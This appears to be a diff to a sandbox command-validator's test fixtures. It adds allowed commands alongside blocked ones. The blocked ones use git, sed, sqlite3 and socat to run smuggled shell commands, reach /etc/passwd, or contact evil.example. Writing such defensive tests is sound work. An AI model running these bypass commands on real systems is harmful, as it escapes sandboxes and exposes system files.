@@ -331,6 +331,20 @@ docker -D logs web
 docker container ls
 docker system df
 grep --color a src/main.rs
+curl -sS --connect-timeout 3 https://allowed.example/
+curl --proto '=https' --tlsv1.2 -sSf https://allowed.example/
+curl --proto-default https allowed.example
+git grep -n '/etc/passwd'
+git grep -n -e '/etc/passwd' -- src
+git clone -n --depth 1 https://allowed.example/a.git inner/a
+git push -u origin HEAD:refs/heads/x
+git push --force-with-lease origin main:main
+git fetch --prune --tags origin main:main
+git pull --rebase --autostash origin main
+git log -S foo -n 3 -- src
+git commit -m '-fix: a thing'
+sqlite3 x.db .tables
+sqlite3 -header -csv x.db 'select * from t'
 `;
 
 // with interpreters allowed, in both tiers
@@ -528,6 +542,11 @@ npm x node x
 pnpm exec node x
 npm --silent exec sh
 uv --color always run id
+dpkg-architecture -c 'sh -c id'
+choom -n 500 -- sh
+systemd-cat sh
+prove -e sh x
+mosh host
 `,
   runs_programs: `
 env -S 'sh -c id'
@@ -841,6 +860,23 @@ git --exec-path=x status
 git archive --remote='ext::sh -c id' HEAD
 psql -c 'copy t to program $$id$$' -h db.allowed.example
 nmap -script x allowed.example
+git clone -n --upload-pack='sh -c id' ./g y
+git rebase --no-gpg-sign -n --exec='id -u' HEAD~1
+git grep -nOsh id
+git grep -n -Osh id
+git grep -LOsh zzz
+git push -n --receive-pack=sh .
+git rebase -S -xid HEAD
+git log -n --ext-diff
+sed --expr='1e id' x
+sed -n --e='1e id' x
+sqlite3 x.db '.sh id -u'
+sqlite3 x.db '.sys id'
+sqlite3 x.db '.ou |id'
+sqlite3 --cmd '.shell id' x.db 'select 1'
+sqlite3 x.db 'vacuum into y'
+socat - '-!!EXEC:id'
+c99-gcc -wrapper ./up.sh x.c
 `,
   path_outside_workspace: `
 cat /etc/passwd
@@ -938,6 +974,10 @@ x /tmp/../etc/passwd
 man /etc/passwd
 man -l /etc/passwd
 curl --data-urlencode x@/etc/passwd https://allowed.example
+git commit -n -F/etc/passwd
+git format-patch -n -o/etc HEAD
+git shortlog -n --output=/etc/x HEAD
+git clone -n /etc y
 `,
   host_not_allowed: `
 pg_isready -h 127.0.0.1
@@ -1098,6 +1138,18 @@ curl --head evil.example
 curl --he evil.example
 npm --regis evil.example install
 http --foo allowed.example evil.example
+git clone -n https://evil.example/x y
+git clone -n evil.example:x y
+git fetch -n evil.example:x
+git fetch -t evil.example:x
+git push -n evil.example:x
+git archive -L --remote=evil.example:x HEAD
+git fetch --dep 1 evil.example:x
+git clone --bran main evil.example:x y
+git fetch --shallow-since x evil.example:x
+git pull -s ours evil.example:x
+git pull -X ours evil.example:x
+git ls-remote --sort x evil.example:x
 `,
   host_ambiguous: `
 curl 'https://allowed.example\\@evil.example/'
